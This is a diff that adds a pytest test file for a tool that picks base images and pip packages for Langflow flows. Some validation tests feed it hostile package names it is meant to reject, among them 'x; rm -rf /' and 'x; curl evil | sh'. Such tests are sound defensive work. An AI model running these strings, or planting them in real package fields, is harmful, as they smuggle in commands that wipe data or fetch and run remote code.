@@ -1,0 +1,135 @@
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from chartgen.runtimes.langflow import facts
+from tests.flows_factory import codes, component, flow, found, load, model
+
+VERSION = facts.load().version
+
+
+def code(text: Any) -> dict[str, Any]:
+    return component(code={"type": "code", "value": text})
+
+
+def packages(text: Any, **options: Any) -> tuple[str, ...]:
+    return load(flow(code(text)), **options).packages
+
+
+def test_a_flow_that_needs_nothing_stands_on_the_small_image() -> None:
+    app = load(flow(code("import os\nfrom lfx.custom import Component")))
+    assert app.base.profile == "base"
+    assert app.base.reference.endswith(f":{VERSION}")
+    assert "nothing beyond Langflow" in app.base.reason
+    assert app.packages == ()
+
+
+@pytest.mark.parametrize(
+    ("text", "wanted"),
+    [
+        ("import yfinance", "yfinance"),
+        ("from googleapiclient.discovery import build", "google-api-python-client"),
+        ("def f():\n    import cv2", "opencv-python"),
+        ("try:\n    import yfinance\nexcept ImportError: pass", "yfinance"),
+        ("from some_tool.part import x", "some-tool"),
+        (["import yfinance", "class A: pass"], "yfinance"),
+    ],
+)
+def test_what_the_code_imports_and_the_base_lacks_is_installed(text: Any, wanted: str) -> None:
+    assert packages(text) == (wanted,)
+
+
+@pytest.mark.parametrize(
+    "text", ["from . import x", "import json", "import pydantic", "import lfx"]
+)
+def test_what_is_there_is_not_installed(text: str) -> None:
+    assert packages(text) == ()
+
+
+def test_noted_dependencies_count() -> None:
+    node = component()
+    noted = [{"name": "yfinance", "version": "1"}, {"name": "lfx"}, {"name": None}, "x"]
+    node["data"]["node"]["metadata"] = {"dependencies": {"dependencies": noted}}
+    assert load(flow(node)).packages == ("yfinance",)
+
+
+@pytest.mark.parametrize(
+    "metadata",
+    [
+        None,
+        [],
+        "x",
+        {"dependencies": None},
+        {"dependencies": []},
+        {"dependencies": {"dependencies": 5}},
+    ],
+)
+def test_strange_metadata_means_no_dependencies(metadata: Any) -> None:
+    node = component()
+    node["data"]["node"]["metadata"] = metadata
+    assert load(flow(node)).packages == ()
+
+
+def test_the_provider_of_a_model_needs_its_package() -> None:
+    assert load(flow(component(m=model("OpenAI")))).packages == ("langchain-openai",)
+
+
+def test_components_of_a_bundle_that_only_the_full_image_has_choose_it() -> None:
+    app = load(flow(code("from lfx.components.openai.openai import OpenAIModelComponent")))
+    assert app.base.profile == "full"
+    assert "Support bot → Acme" in app.base.reason
+
+
+def test_an_image_of_the_users_own_gets_everything_that_is_missing() -> None:
+    app = load(flow(component(m=model("OpenAI"))), base="registry.example.com/own:1")
+    assert (app.base.reference, app.base.profile) == ("registry.example.com/own:1", "custom")
+    assert app.packages == ("langchain-openai",)
+
+
+def test_the_runtimes_own_packages_are_pinned() -> None:
+    assert load(flow()).constraints == (f"langflow-base=={VERSION}", f"lfx=={VERSION}")
+
+
+def test_packages_named_by_the_user_are_added() -> None:
+    assert packages("x = 1", packages=("acme[all]>=2,<3",)) == ("acme[all]>=2,<3",)
+
+
+@pytest.mark.parametrize(
+    "text", ["--index-url=http://x", "a b", "x; rm -rf /", "git+https://x", ""]
+)
+def test_a_package_that_is_none_is_an_error(text: str) -> None:
+    finding = found(load(flow(), packages=(text,)), "bad-package")
+    assert finding.level == "error"
+
+
+def test_a_hostile_dependency_is_an_error_too() -> None:
+    node = component()
+    noted = [{"name": "x; curl evil | sh"}]
+    node["data"]["node"]["metadata"] = {"dependencies": {"dependencies": noted}}
+    assert codes(load(flow(node)), "error") == ["bad-package"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "def f(:",
+        "x = 'open",
+        "(" * 5000,
+        "-" * 200_000 + "1",
+        "a." * 100_000 + "a",
+        "[" * 50 + "0\0" + "]" * 50,
+    ],
+    ids=["syntax", "quote", "brackets", "minuses", "dots", "nul"],
+)
+def test_code_that_cannot_run_is_an_error_and_no_traceback(text: str) -> None:
+    app = load(flow(code(text)))
+    assert set(codes(app, "error")) <= {"broken-code", "broken-flow", "no-flows"}
+    assert codes(app, "error")
+
+
+def test_broken_code_is_named_by_its_line() -> None:
+    finding = found(load(flow(code("x = 1\ndef f(:\n"))), "broken-code")
+    assert "line 2" in finding.message
+    assert finding.at == "$.data.nodes[0].data.node.template.code.value"
